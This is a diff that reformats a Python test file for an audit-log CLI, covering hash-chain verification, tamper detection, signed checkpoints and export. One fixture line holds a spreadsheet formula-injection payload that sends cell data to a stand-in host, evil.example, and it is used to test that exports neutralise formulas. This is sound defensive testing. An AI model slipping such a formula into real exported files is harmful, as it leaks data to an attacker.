@@ -28,26 +28,60 @@ EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
 def _config(tmp_path: Path, db_url: str) -> Path:
     path = tmp_path / "intake.toml"
-    path.write_text(f'[database]\nurl = "{db_url}"\n\n[store]\npath = "store"\n\n'
-                    '[audit]\ncheckpoint_key_file = "keys/audit-checkpoint.key"\n'
-                    'checkpoint_public_key_file = "keys/audit-checkpoint.pub"\n', encoding="utf-8")
+    path.write_text(
+        f'[database]\nurl = "{db_url}"\n\n[store]\npath = "store"\n\n'
+        '[audit]\ncheckpoint_key_file = "keys/audit-checkpoint.key"\n'
+        'checkpoint_public_key_file = "keys/audit-checkpoint.pub"\n',
+        encoding="utf-8",
+    )
     return path
 
 
 def _populate(engine: Engine, store: DocumentStore) -> str:
     sha = store.put(b"%PDF-1.7 a user fiche")
     with Session(engine) as s:
+
         def add(minutes: int, action: AuditAction, login: str | None, reason: str, **details: object) -> None:
-            append_entry(s, actor="system", action=action, org=ORG, login=login, document_sha256=sha,
-                         reason=reason, details=dict(details), at=T0 + timedelta(minutes=minutes))
+            append_entry(
+                s,
+                actor="system",
+                action=action,
+                org=ORG,
+                login=login,
+                document_sha256=sha,
+                reason=reason,
+                details=dict(details),
+                at=T0 + timedelta(minutes=minutes),
+            )
 
         add(0, AuditAction.DOCUMENT_RECEIVED, None, EVIL)
-        add(1, AuditAction.ACCOUNT_CREATED, "ab12cd34", "dossier complete", profile="consult",
-            scope="selected", contracts=["GI-001"])
-        add(2, AuditAction.LEGACY_REVOKED, "OLD0042", "legacy revoked on opening", profile="consult_input",
-            scope="all", contracts=[])
-        add(60 * 24 * 3, AuditAction.ACCOUNT_MODIFIED, "ab12cd34", "+full replacement", profile="consult_input",
-            scope="selected", contracts=["GI-001", "GI-002"])
+        add(
+            1,
+            AuditAction.ACCOUNT_CREATED,
+            "ab12cd34",
+            "dossier complete",
+            profile="consult",
+            scope="selected",
+            contracts=["GI-001"],
+        )
+        add(
+            2,
+            AuditAction.LEGACY_REVOKED,
+            "OLD0042",
+            "legacy revoked on opening",
+            profile="consult_input",
+            scope="all",
+            contracts=[],
+        )
+        add(
+            60 * 24 * 3,
+            AuditAction.ACCOUNT_MODIFIED,
+            "ab12cd34",
+            "+full replacement",
+            profile="consult_input",
+            scope="selected",
+            contracts=["GI-001", "GI-002"],
+        )
         s.commit()
     return sha
 
@@ -58,8 +92,9 @@ def _run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]
     return code, out.out, out.err
 
 
-def test_audit_commands_end_to_end(tmp_path: Path, db_url: str, engine: Engine,
-                                   capsys: pytest.CaptureFixture[str]) -> None:
+def test_audit_commands_end_to_end(
+    tmp_path: Path, db_url: str, engine: Engine, capsys: pytest.CaptureFixture[str]
+) -> None:
     cfg = str(_config(tmp_path, db_url))
     sha = _populate(engine, DocumentStore(tmp_path / "store"))
 
@@ -91,8 +126,7 @@ def test_audit_commands_end_to_end(tmp_path: Path, db_url: str, engine: Engine,
     assert "OLD0042" not in held  # revoked on 2 March
     code, out, _ = _run(capsys, "audit", "access", "-c", cfg, "--at", "2026-03-02T07:00:00Z", "--json")
     assert [(g["login"], g["legacy"]) for g in json.loads(out)] == [("OLD0042", True)]
-    code, out, _ = _run(capsys, "audit", "access", "-c", cfg, "--at", "2026-03-06", "--contract", "GI-002",
-                        "--json")
+    code, out, _ = _run(capsys, "audit", "access", "-c", cfg, "--at", "2026-03-06", "--contract", "GI-002", "--json")
     assert [(g["login"], g["profile"]) for g in json.loads(out)] == [("ab12cd34", "consult_input")]
 
     code, out, _ = _run(capsys, "audit", "show", "2", "-c", cfg, "--out", str(tmp_path / "orig.pdf"), "--json")
@@ -115,8 +149,9 @@ def test_audit_commands_end_to_end(tmp_path: Path, db_url: str, engine: Engine,
     assert "entry 4" in err
 
 
-def test_export_keeps_formulas_as_text(tmp_path: Path, db_url: str, engine: Engine,
-                                       capsys: pytest.CaptureFixture[str]) -> None:
+def test_export_keeps_formulas_as_text(
+    tmp_path: Path, db_url: str, engine: Engine, capsys: pytest.CaptureFixture[str]
+) -> None:
     cfg = str(_config(tmp_path, db_url))
     _populate(engine, DocumentStore(tmp_path / "store"))
 
@@ -150,21 +185,29 @@ def test_verify_exit_code_from_a_real_process(tmp_path: Path, db_url: str, engin
         else:
             conn.exec_driver_sql("DROP TRIGGER audit_entry_no_update")
         conn.execute(sa.update(AUDIT_ENTRY).where(AUDIT_ENTRY.c.seq == 2).values(login="attacker"))
-    done = subprocess.run([sys.executable, "-m", "intake.cli", "audit", "verify", "-c", cfg],
-                          capture_output=True, text=True, timeout=120)
+    done = subprocess.run(
+        [sys.executable, "-m", "intake.cli", "audit", "verify", "-c", cfg], capture_output=True, text=True, timeout=120
+    )
     assert done.returncode == 1
     assert "BROKEN at entry 2" in done.stderr
 
 
-def test_verify_reports_a_blob_and_a_deleted_head_and_never_crashes(tmp_path: Path, db_url: str,
-                                                                      engine: Engine) -> None:
+def test_verify_reports_a_blob_and_a_deleted_head_and_never_crashes(
+    tmp_path: Path, db_url: str, engine: Engine
+) -> None:
     _populate(engine, DocumentStore(tmp_path / "store"))
     env = {k: v for k, v in os.environ.items() if k != "EXTRANET_INTAKE_CONFIG"}
 
     def verify() -> subprocess.CompletedProcess[str]:
         # an auditor's check: no configuration file, the database named on the command line
-        return subprocess.run([sys.executable, "-m", "intake.cli", "audit", "verify", "--database-url", db_url],
-                              capture_output=True, text=True, timeout=120, env=env, cwd=tmp_path)
+        return subprocess.run(
+            [sys.executable, "-m", "intake.cli", "audit", "verify", "--database-url", db_url],
+            capture_output=True,
+            text=True,
+            timeout=120,
+            env=env,
+            cwd=tmp_path,
+        )
 
     assert verify().returncode == 0
     with engine.begin() as conn:
@@ -185,8 +228,9 @@ def test_verify_reports_a_blob_and_a_deleted_head_and_never_crashes(tmp_path: Pa
     assert "Traceback" not in done.stderr
 
 
-def test_verify_with_a_checkpoint_needs_no_configuration(tmp_path: Path, db_url: str, engine: Engine,
-                                                         capsys: pytest.CaptureFixture[str]) -> None:
+def test_verify_with_a_checkpoint_needs_no_configuration(
+    tmp_path: Path, db_url: str, engine: Engine, capsys: pytest.CaptureFixture[str]
+) -> None:
     cfg = str(_config(tmp_path, db_url))
     _populate(engine, DocumentStore(tmp_path / "store"))
     assert _run(capsys, "audit", "keygen", "--out", str(tmp_path / "keys"))[0] == 0
@@ -194,8 +238,19 @@ def test_verify_with_a_checkpoint_needs_no_configuration(tmp_path: Path, db_url:
     assert _run(capsys, "audit", "checkpoint", "-c", cfg, "--out", checkpoint)[0] == 0
     pub = str(tmp_path / "keys" / "audit-checkpoint.pub")
     env = {k: v for k, v in os.environ.items() if k not in ("EXTRANET_INTAKE_CONFIG", "EXTRANET_AUDIT_KEY")}
-    argv = [sys.executable, "-m", "intake.cli", "audit", "verify", "--database-url", db_url,
-            "--public-key", pub, "--checkpoint", checkpoint]
+    argv = [
+        sys.executable,
+        "-m",
+        "intake.cli",
+        "audit",
+        "verify",
+        "--database-url",
+        db_url,
+        "--public-key",
+        pub,
+        "--checkpoint",
+        checkpoint,
+    ]
     elsewhere = tmp_path / "auditor"
     elsewhere.mkdir()
     done = subprocess.run(argv, capture_output=True, text=True, timeout=120, env=env, cwd=elsewhere)
@@ -208,8 +263,11 @@ def test_verify_with_a_checkpoint_needs_no_configuration(tmp_path: Path, db_url:
         else:
             conn.exec_driver_sql("DROP TRIGGER audit_entry_no_delete")
         conn.execute(sa.delete(AUDIT_ENTRY).where(AUDIT_ENTRY.c.seq >= 4))
-        conn.execute(sa.update(AUDIT_HEAD).values(seq=3, hash=conn.execute(
-            sa.select(AUDIT_ENTRY.c.hash).where(AUDIT_ENTRY.c.seq == 3)).scalar_one()))
+        conn.execute(
+            sa.update(AUDIT_HEAD).values(
+                seq=3, hash=conn.execute(sa.select(AUDIT_ENTRY.c.hash).where(AUDIT_ENTRY.c.seq == 3)).scalar_one()
+            )
+        )
     done = subprocess.run(argv, capture_output=True, text=True, timeout=120, env=env, cwd=elsewhere)
     assert done.returncode == 1
     assert "BROKEN at entry 4 (truncated)" in done.stderr
@@ -218,7 +276,8 @@ def test_verify_with_a_checkpoint_needs_no_configuration(tmp_path: Path, db_url:
 
 
 def test_every_run_ends_with_a_signed_checkpoint_when_a_key_is_configured(
-        tmp_path: Path, db_url: str, engine: Engine, capsys: pytest.CaptureFixture[str]) -> None:
+    tmp_path: Path, db_url: str, engine: Engine, capsys: pytest.CaptureFixture[str]
+) -> None:
     _populate(engine, DocumentStore(tmp_path / "store"))
     cfg = _config(tmp_path, db_url)
     cfg.write_text(cfg.read_text(encoding="utf-8") + '\n[run]\ndata_dir = "var"\n', encoding="utf-8")
@@ -246,15 +305,24 @@ def test_every_run_ends_with_a_signed_checkpoint_when_a_key_is_configured(
     assert [f["code"] for f in json.loads(out)["failures"]] == ["audit-chain-broken"]
 
 
-def test_log_and_export_add_the_catalogue_words_to_the_codes(tmp_path: Path, db_url: str, engine: Engine,
-                                                             capsys: pytest.CaptureFixture[str]) -> None:
+def test_log_and_export_add_the_catalogue_words_to_the_codes(
+    tmp_path: Path, db_url: str, engine: Engine, capsys: pytest.CaptureFixture[str]
+) -> None:
     cfg = str(_config(tmp_path, db_url))
     store = DocumentStore(tmp_path / "store")
     _populate(engine, store)
     with Session(engine) as s:
-        append_entry(s, actor="system", action=AuditAction.DOCUMENT_REJECTED, org=ORG, login=None,
-                     document_sha256=None, reason="user-email-in-use, contracts-missing", details={},
-                     at=T0 + timedelta(days=5))
+        append_entry(
+            s,
+            actor="system",
+            action=AuditAction.DOCUMENT_REJECTED,
+            org=ORG,
+            login=None,
+            document_sha256=None,
+            reason="user-email-in-use, contracts-missing",
+            details={},
+            at=T0 + timedelta(days=5),
+        )
         s.commit()
     code, out, _ = _run(capsys, "audit", "log", "-c", cfg, "--json")
     assert code == 0
